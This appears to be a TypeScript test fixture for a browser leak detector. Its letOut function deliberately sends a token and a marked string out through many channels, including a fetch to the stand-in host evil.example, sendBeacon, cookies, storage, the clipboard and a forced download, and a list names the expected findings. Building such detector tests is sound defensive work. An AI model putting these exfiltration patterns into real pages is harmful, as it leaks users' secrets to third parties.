/** A secret that is too short for pieces. */
export const SHORT = 'trustno1!';

/** Tells a marked text from inside a worker, where nothing of the page can look. */
export async function letOutOfWorker(mark: string): Promise<void> {
  console.debug(mark);
  await fetch(`/?of=${mark}`).catch(() => undefined);
}

/** Does with a token and a marked text what a page of this kind must never do. Runs in the page. */
export async function letOut({ token, mark, short }: { token: string; mark: string; short: string }): Promise<void> {
  const hex = [...mark].map((letter) => letter.charCodeAt(0).toString(16)).join('');
  const quietly = (done: Promise<unknown>) => done.catch(() => undefined);
  await quietly(fetch(`/?of=${token.slice(20, 40)}`));
  await quietly(fetch('/', { method: 'POST', body: btoa(`..${mark}`) }));
  await quietly(fetch('/', { headers: { 'X-Of': mark } }));
  await quietly(fetch(`https://evil.example/${mark}`));
  navigator.sendBeacon('/beacon', mark);
  localStorage.setItem('of', hex);
  sessionStorage.setItem('of', short);
  // biome-ignore lint/suspicious/noDocumentCookie: what is to be found
  document.cookie = `of=${mark.replace(/./g, (letter) => `%${letter.charCodeAt(0).toString(16)}`)}`;
  document.title = mark.toUpperCase();
  window.name = btoa(mark);
  history.pushState({ of: mark }, '', `/?of=${mark}`);
  console.debug(btoa(token));
  performance.mark(mark);
  new BroadcastChannel(mark).postMessage(mark);
  new RTCPeerConnection();
  new Notification(mark);
  await quietly(navigator.clipboard.writeText(token));
  await quietly(navigator.clipboard.readText());
  const cache = await caches.open('of-nobody');
  await cache.put('/of', new Response(token));
  await new Promise((resolve) => {
    const opening = indexedDB.open(mark);
    opening.onsuccess = resolve;
  });
  const folder = await navigator.storage.getDirectory();
  await folder.getFileHandle(mark, { create: true });
  const address = URL.createObjectURL(new Blob([token]));
  Object.assign(document.createElement('a'), { href: address, download: `${mark}.txt` }).click();
}

/** What has to be found of it. */
export const LET_OUT = [
  'the wire: a piece of a token or key',
  'the wire: an encoded mark',
  'the wire: worker',
  'the wire: service',
  'console: worker',
  'the wire: page',
  'asked with a query: /',
  'a request: page',
  'the page did: Navigator.sendBeacon',
  'the local storage: a mark in hexadecimal',
  'kept under another name',
  'the session storage: a claim or short secret of a sample',
  'cookies: page',
  'the page did: Document.cookie',
  'the title: page',
  'the name of the window: an encoded mark',
  'the address: page',
  'the state of the history: page',
  'the history: page',
  'the page did: History.pushState',
  'console: a piece of a token or key',
  'Performance.mark: page',
  'the timings: page',
  'the page did: new BroadcastChannel',
  'the page did: new RTCPeerConnection',
  'the page did: new Notification',
  'the clipboard was written to unasked',
  'the page did: Clipboard.readText',
  'the cache has what is no file of the build',
  'there is a database',
  'there is a file of the origin’s own',
  'a download: page',
];
